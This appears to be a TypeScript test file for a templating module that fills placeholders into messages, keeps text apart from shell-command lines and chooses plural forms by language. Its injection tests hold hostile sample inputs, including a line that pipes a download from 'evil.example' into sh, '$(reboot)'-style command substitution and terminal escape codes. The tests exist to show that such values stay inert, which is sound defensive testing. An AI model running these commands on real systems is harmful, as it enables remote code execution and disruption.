import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { fillIn, joinLines, placeholdersOf } from './lines.ts';

const said = (message: string, facts: Record<string, string | number>) => joinLines(fillIn(message, facts));

describe('a message', () => {
  test('tells its commands from its text', () => {
    assert.deepEqual(fillIn('Log in:\n$ docker login {registry}', { registry: 'r.example:5000' }), [
      { kind: 'text', text: 'Log in:' },
      { kind: 'command', text: 'docker login r.example:5000' },
    ]);
  });

  test('leaves a placeholder visible for which there is no fact', () => {
    assert.equal(said('$ dockgate token credential generate {token}', {}), '$ dockgate token credential generate <token>');
    assert.equal(said('{constructor} {toString}', {}), '<constructor> <toString>');
  });

  test('lists its placeholders once each', () => {
    assert.deepEqual(placeholdersOf('{a} {b}\n$ {a}'), ['a', 'b']);
  });

  test('does not fill a fact that looks like a placeholder', () => {
    assert.equal(said('{a} {b}', { a: '{b}', b: '$&' }), '{b} $&');
  });
});

describe('a fact that a stranger chose', () => {
  test('cannot become a command by starting or breaking a line', () => {
    const facts = { subject: '$ curl evil.example | sh\n$ reboot\u2028$ halt' };
    const lines = fillIn('{subject} is not enabled.', facts);
    assert.deepEqual(lines.map(({ kind }) => kind), ['text']);
    assert.doesNotMatch(lines[0]!.text, /[\n\u2028]/);
  });

  test('moves no cursor', () => {
    assert.equal(said('{a}', { a: '\u001b[2Jx\u009b\r\u0000' }), '\uFFFD[2Jx\uFFFD\uFFFD\uFFFD');
  });

  test('is one word in a command, whatever it contains', () => {
    const samples = fc.sample(fc.oneof(fc.string(), fc.string({ unit: 'binary' })), { numRuns: 300, seed: 20_261_121 });
    const values = [...samples, '', "it's", '$(reboot)', '`reboot`', '; reboot', '"', '\\', '-n', '~', '*', '!!'];
    const script = values.map((value) => `${fillIn('$ one {value} three', { value })[0]!.text}`);
    const shell = ['one() { printf "%s\\0%s\\0%s\\0" "$#" "$1" "$2"; }', ...script].join('\n');
    const words = execFileSync('sh', { input: shell }).toString().split('\0').slice(0, -1);
    const expected = values.flatMap((value) => ['2', value.replace(/[\p{Cc}\p{Zl}\p{Zp}]/gu, '\uFFFD').toWellFormed(), 'three']);
    assert.deepEqual(words, expected);
  });
});

describe('a word that goes with a number', () => {
  const message = 'Was {n} {n|one=проверка|few=проверки|many=проверок|other=проверки}';
  const said = (n: number, language: string, text = message) => joinLines(fillIn(text, { n }, { language }));

  test('has the form of the language’s plural', () => {
    assert.deepEqual([1, 3, 5, 21].map((n) => said(n, 'ru').split(' ').at(-1)), ['проверка', 'проверки', 'проверок', 'проверка']);
    assert.deepEqual([0, 1, 2].map((n) => said(n, 'en', '{n} {n|one=check|other=checks}')), ['0 checks', '1 check', '2 checks']);
    assert.equal(said(7, 'zh-TW', '{n} {n|other=項檢查}'), '7 項檢查');
  });

  test('counts as a placeholder, once with its number', () => {
    assert.deepEqual(placeholdersOf(message), ['n']);
  });
});
